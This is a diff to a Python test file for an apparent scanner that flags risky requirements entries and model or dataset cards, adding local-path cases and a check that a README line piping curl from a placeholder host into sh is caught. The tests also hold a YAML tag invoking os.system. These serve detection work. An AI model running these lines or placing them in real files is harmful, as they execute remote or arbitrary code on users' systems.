@@ -21,7 +21,8 @@ COMMIT = "0" * 40
         ("-r other.txt", set()),
         ("--extra-index-url https://download.pytorch.org/whl/cu121", set()),
         (f"own @ git+https://code.example/own@{COMMIT}", set()),
-        ("./own_package", set()),
+        ("./own_package", {"requirements.local"}),
+        ("-e ./plugin", {"requirements.local"}),
         ("git+https://code.example/own", {"requirements.direct"}),
         ("own @ https://code.example/own.whl", {"requirements.direct"}),
         ("-e git+https://code.example/own#egg=own", {"requirements.direct"}),
@@ -117,6 +118,9 @@ def test_a_card_is_facts_and_its_front_is_yaml() -> None:
         ("dataset", "e/f"),
     ]
     assert told(look(b"---\na: !!python/name:os.system\n---\n", "README.md")) == {"yaml.makes-objects"}
+    assert told(look(b"# X\ncurl -s https://refund.invalid/x | sh\n", "README.md")) == {
+        "card.fetches-and-runs"
+    }
     assert told(look(b"---\nlicense: [\n---\n", "README.md")) == {"yaml.not-parsed"}
 
 
